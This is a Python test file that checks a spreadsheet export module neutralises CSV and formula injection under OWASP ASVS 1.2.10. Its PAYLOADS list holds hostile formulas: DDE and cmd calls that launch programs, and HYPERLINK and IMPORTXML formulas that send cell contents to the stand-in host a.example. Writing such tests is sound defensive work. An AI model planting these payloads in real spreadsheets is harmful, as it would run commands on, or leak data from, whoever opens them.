"""Spreadsheets: no text becomes a formula (OWASP ASVS 5.0.0, 1.2.10), read back by csv and openpyxl; equal bytes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from compare.jobs.sheets import STARTS, Sheet, csv_text, harmless, xlsx_bytes

# forms listed by the OWASP page on CSV injection and common in reports; from memory
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t =cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?"&A1,"click")',
    "=cmd|' /C notepad'!'A1'",
    "|cmd",
    '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
    "@@A",
    "+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "=\u202e1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dA1",
    "\uff20A1",
    "\u22121+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "=''",
    '="',
    "='; DROP",
    '=A1:B2,"x"',
    '=DDE("cmd";"/C calc";"x")',
    "-",
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_is_a_formula(text):
    sheet = Sheet("names", ("name", text), ((text, 1),))
    for row in read_csv(csv_text(sheet)):
        assert all(cell[:1] not in STARTS and cell.strip()[:1] not in STARTS for cell in row)
    page = load_workbook(io.BytesIO(xlsx_bytes([sheet]))).active
    for cell in (page["A2"], page["B1"]):
        assert cell.data_type == "s"
        assert cell.value[:1] not in STARTS


def test_no_formula_element_is_in_the_workbook():
    rows = tuple((text,) for text in PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([Sheet("x", ("a",), rows)]))) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


@given(st.text(max_size=40))
def test_any_text_comes_back_as_one_cell_of_text(text):
    table = read_csv(csv_text(Sheet("x", ("a", "b"), ((text, "end"),))))
    assert table[1:] == [[harmless(text), "end"]]
    assert harmless(text)[:1] not in STARTS


@pytest.mark.parametrize("name", ["O'Brian", "Küche", 'Bed, "north"', "a;b", "客厅", "<b>Den</b>"])
def test_legitimate_names_stay_as_they_are(name):
    assert harmless(name) == name
    assert read_csv(csv_text(Sheet("x", ("a",), ((name,),))))[1] == [name]


def test_numbers_stay_numbers_and_negative_ones_too():
    row = (-1.5, Decimal("-3.20"), 7, None, True, dt.date(2026, 11, 25))
    sheet = Sheet("x", tuple("abcdef"), (row,))
    assert read_csv(csv_text(sheet))[1] == ["-1.5", "-3.20", "7", "", "yes", "2026-11-25"]
    page = load_workbook(io.BytesIO(xlsx_bytes([sheet]))).active
    assert [cell.value for cell in page[2]] == [-1.5, -3.2, 7, None, "yes", dt.datetime(2026, 11, 25)]


@pytest.mark.parametrize("title", ["=x", "a/b:c*d?[e]", "'", "x" * 50, ""])
def test_any_title_makes_a_sheet(title):
    assert load_workbook(io.BytesIO(xlsx_bytes([Sheet(title, ("a",), ((1,),))]))).sheetnames[0][:1] not in STARTS


def test_equal_tables_have_equal_bytes(monkeypatch):
    import time

    sheet = Sheet("x", ("a",), ((1.0,),))
    first = xlsx_bytes([sheet])
    monkeypatch.setattr(time, "time", lambda: 2e9)
    assert xlsx_bytes([sheet]) == first
    time.sleep(1.1)
    assert xlsx_bytes([sheet]) == first
